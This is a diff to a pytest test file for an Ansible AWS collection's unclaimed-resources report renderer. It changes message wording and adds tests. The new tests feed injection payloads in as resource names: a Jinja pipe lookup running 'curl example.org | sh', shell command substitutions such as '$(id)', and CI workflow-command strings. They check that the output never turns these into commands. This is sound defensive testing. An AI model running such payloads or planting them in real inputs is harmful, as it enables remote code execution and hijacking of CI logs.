@@ -13,6 +13,7 @@ from ansible_collections.mainstay.aws.plugins.module_utils.summary.collect impor
 from ansible_collections.mainstay.aws.plugins.module_utils.summary.export import as_data
 from ansible_collections.mainstay.aws.plugins.module_utils.summary.markdown import as_markdown
 from ansible_collections.mainstay.aws.plugins.module_utils.summary.model import Report
+from ansible_collections.mainstay.aws.plugins.module_utils.summary.report import render
 from ansible_collections.mainstay.aws.plugins.module_utils.summary.unclaimed import unclaimed
 
 INFO = TaskInfo("network", "Look", "mainstay.aws.platform_unclaimed_info", True)
@@ -46,12 +47,12 @@ LEGACY = [
         pytest.param([{"resources": [vpc(1)]}, {"resources": [vpc(1)]}], LEGACY, id="found in two places"),
         pytest.param(
             [{"looked": False}],
-            ["not looked for in af-south-1: what no host claims; the run sees only a part of the inventory (--limit or --tags)"],
+            ["unclaimed resources in af-south-1 were not searched for: the run sees only a part of the inventory (--limit or --tags)"],
             id="limited",
         ),
         pytest.param(
             [{"looked": False, "reason": "tagging: denied"}],
-            ["not looked for in af-south-1: what no host claims; tagging: denied"],
+            ["unclaimed resources in af-south-1 were not searched for: tagging: denied"],
             id="refused",
         ),
         pytest.param(
@@ -83,3 +84,23 @@ def test_another_format_is_not_read() -> None:
     collector = Collector()
     collector.add(INFO, Outcome({"unclaimed": {"format": 2, "resources": [vpc(1)]}}))
     assert collector.report().unclaimed == ()
+
+
+HOSTILE = "{{ lookup('pipe', 'curl example.org | sh') }}"
+
+
+@pytest.mark.parametrize("text", [HOSTILE, "::add-mask::x", "$(id)", "a;id", "##[command]id", "Legacy", "a" * 25])
+def test_no_command_contains_what_no_component_can_be_called(text: str) -> None:
+    for width in (60, 80, 200):
+        lines = [one.text for one in unclaimed(report({"resources": [{**vpc(1, text), "address": text, "arn": text}]}), width)]
+        assert not [one for one in lines if "--extra-vars" in one]
+        assert not [one for one in lines if one.lstrip().startswith("::") or "##[" in one]
+        assert any("remove it by hand" in one for one in lines)
+
+
+def test_values_that_wrapping_puts_at_the_beginning_of_a_line_command_nothing() -> None:
+    why = "denied " + "::set-output name=a::b ##[section]x ##vso[task.setvariable]y " * 9
+    for width in range(60, 120):
+        shown = render(report({"looked": False, "reason": why}), width)
+        assert not [one.text for one in shown if one.text.lstrip().startswith("::")]
+        assert not [one.text for one in shown if "##[" in one.text or "##vso[" in one.text]
